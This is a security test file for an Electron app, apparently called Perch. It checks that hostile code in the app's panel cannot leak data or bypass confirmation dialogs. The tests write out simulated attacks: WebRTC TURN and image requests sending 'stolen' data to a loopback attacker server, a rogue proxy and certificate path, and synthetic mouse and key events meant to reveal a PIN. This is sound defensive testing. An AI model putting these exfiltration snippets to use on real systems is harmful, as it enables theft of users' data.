// What foreign code in the panel's own page can't do. Such code can use the bridge, so it can make every call.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Page } from 'playwright';
import { messages } from '../../app/i18n/messages.ts';
import { listeningPort } from '../loopback/listening-port.ts';
import { signIn } from './actions.ts';
import type { RunningPerch } from './driver.ts';
import { createFixture, type Fixture } from './fixture.ts';

declare global {
  /** The dialogs that Perch has opened. They stay open until `closeDialogs`. */
  var openedDialogs: string[];
  var closeDialogs: () => void;
}

const alice = 'alice@practice.example';

let fixture: Fixture;
let perch: RunningPerch;
let panel: Page;
let attacker: Server;
let attackerRequests = 0;

beforeAll(async () => {
  attacker = createServer((_request, response) => {
    attackerRequests += 1;
    response.end();
  }).listen(0, '127.0.0.1');
  await once(attacker, 'listening');
  fixture = await createFixture();
  fixture.service.setProfile(alice, { 'voicemail-login-pin': '0037' });
  perch = await fixture.start();
  panel = await signIn(perch, fixture.service, alice);
});

afterAll(async () => {
  await fixture.clear();
  attacker.close();
});

const attackerHost = () => `127.0.0.1:${listeningPort(attacker)}`;
const call = (name: string, ...args: readonly unknown[]) =>
  panel.evaluate(`perch.call(${[name, ...args].map((arg) => JSON.stringify(arg)).join(', ')})`);
const reveal = async () =>
  call('profile.reveal', JSON.stringify(['Practice service', alice]), 'voicemail-login-pin');
const lastQuestion = async () => (await perch.messageBoxes()).at(-1)?.message;

/** A connection like the user's, at the attacker's host. */
const draft = () => ({
  name: 'Practice service, again',
  baseUrl: `http://${attackerHost()}`,
  authUrl: '',
  clientId: 'perch',
  redirectUri: '',
  browserRedirectUri: '',
  signIn: ['password'],
  clientAuthentication: 'body',
});

test('a hostile page can’t print, open a dialog for files, or leave the panel empty', async () => {
  expect(await panel.evaluate(`print()`)).toBeUndefined();
  expect(
    await panel.evaluate(`['showSaveFilePicker', 'showOpenFilePicker'].filter((name) => name in self)`),
  ).toEqual([]);
  await panel.evaluate(`self.isFirst = true; void (location.href = 'about:blank')`);
  await expect.poll(() => panel.evaluate(`'isFirst' in self`).catch(() => true)).toBe(false);
  await panel.getByRole('button', { name: messages.overview.portal }).waitFor();
});

test('[S112] a hostile page can’t contact its own host or save a connection to it without the user’s confirmation', async () => {
  await call('connection.enter');
  await call('connection.test', draft(), 'stolen data');
  expect(await lastQuestion()).toBe(messages.question.connection(attackerHost()));
  await call('connection.save', draft(), '');
  expect(await perch.messageBoxes()).toHaveLength(2);
  await call('view.back', 'connection-form');
  await call('settings.open');
  expect(await call('view.read')).toMatchObject({
    panel: { settings: { connections: [{ name: 'Practice service' }] } },
  });
  await call('view.back', 'settings');
  expect(attackerRequests).toBe(0);
});

test('[S250] a hostile page can’t reach the network by WebRTC, over UDP or TCP, or by a request', async () => {
  const udp = createSocket('udp4').bind(0, '127.0.0.1');
  const tcp = createTcpServer((socket) => socket.destroy()).listen(0, '127.0.0.1');
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
  let contacts = 0;
  udp.on('message', () => (contacts += 1));
  tcp.on('connection', () => (contacts += 1));
  try {
    const [udpPort, tcpPort] = [udp.address().port, listeningPort(tcp)];
    const outcome = await panel.evaluate(`(async () => {
      const login = { username: 'stolen', credential: 'data' };
      const connection = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:127.0.0.1:${udpPort}' },
        { urls: 'turn:127.0.0.1:${udpPort}?transport=udp', ...login },
        { urls: 'turn:127.0.0.1:${tcpPort}?transport=tcp', ...login },
      ] });
      connection.createDataChannel('stolen');
      const gathered = new Promise((resolve) => {
        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
        // On a machine without a network, gathering never completes.
        if (!navigator.onLine) resolve();
      });
      await connection.setLocalDescription();
      await gathered;
      connection.close();
      const image = new Image();
      image.src = 'http://127.0.0.1:${tcpPort}/stolen.png';
      return { isLoaded: await image.decode().then(() => true, () => false) };
    })()`);
    expect(outcome).toEqual({ isLoaded: false });
    expect(contacts).toBe(0);
    const policies = await perch.evaluateInMain(async ({ webContents }) =>
      webContents.getAllWebContents().map((contents) => contents.getWebRTCIPHandlingPolicy()),
    );
    expect(new Set(policies)).toEqual(new Set(['disable_non_proxied_udp']));
  } finally {
    udp.close();
    tcp.close();
  }
});

test('[S113] a hostile page can’t set a proxy or the path of a certificate file', async () => {
  const proxy = attackerHost();
  await call('preferences.set', { proxy });
  expect(await lastQuestion()).toBe(messages.question.proxy(attackerHost()));
  await expect(call('preferences.set', { certificates: '/tmp/attacker.pem' })).rejects.toThrow('invalid');
  await call('account.poll', JSON.stringify(['Practice service', alice]));
  expect(await call('view.read')).toMatchObject({ preferences: { proxy: 'system' } });
  expect(attackerRequests).toBe(0);
});

test('[S114] a hostile page can’t reveal the PIN without the user’s input, and only once with it', async () => {
  // Uses up the last click of the steps above.
  await reveal();
  await panel.evaluate(`(() => {
    const button = document.querySelector('button');
    for (const type of ['mousedown', 'mouseup']) button.dispatchEvent(new MouseEvent(type, { bubbles: true }));
    for (const type of ['keydown', 'keyup']) button.dispatchEvent(new KeyboardEvent(type, { key: 'Shift' }));
  })()`);
  expect(await reveal()).toBe('');
  expect(await lastQuestion()).toBe(messages.question.reveal);

  const { length } = await perch.messageBoxes();
  await panel.getByRole('button', { name: messages.overview.allFields }).click();
  // The overview has a button “Show Voicemail PIN”, too.
  await panel.getByRole('heading', { name: messages.allFields.title }).waitFor();
  await panel.getByRole('button', { name: 'Show Voicemail PIN' }).click();
  await panel.getByText('0037', { exact: true }).waitFor();
  expect(await perch.messageBoxes()).toHaveLength(length);
  expect(await reveal()).toBe('');
});

test('[S115] a hostile page can’t open a second dialog beside an open one', async () => {
  await perch.evaluateInMain(async ({ dialog }) => {
    const { promise, resolve } = Promise.withResolvers<undefined>();
    globalThis.openedDialogs = [];
    globalThis.closeDialogs = () => resolve(undefined);
    const open = async <Result>(name: string, result: Result): Promise<Result> => {
      globalThis.openedDialogs.push(name);
      await promise;
      return result;
    };
    dialog.showMessageBox = () => open('message box', { response: 0, checkboxChecked: false });
    dialog.showOpenDialog = () => open('open dialog', { canceled: true, filePaths: [] });
    dialog.showSaveDialog = () => open('save dialog', { canceled: true, filePath: '' });
  });
  const proxy = attackerHost();
  const first = call('preferences.set', { proxy });
  await expect.poll(() => perch.evaluateInMain(async () => globalThis.openedDialogs)).toHaveLength(1);
  await call('connection.enter');
  await Promise.all([
    call('preferences.set', { proxy }),
    call('connection.test', draft(), ''),
    call('connection.save', draft(), ''),
    call('connection.open'),
    call('preferences.chooseCertificates'),
    call('diagnostics.save'),
    reveal(),
  ]);
  expect(await perch.evaluateInMain(async () => globalThis.openedDialogs)).toEqual(['message box']);
  await perch.evaluateInMain(async () => globalThis.closeDialogs());
  await first;
});
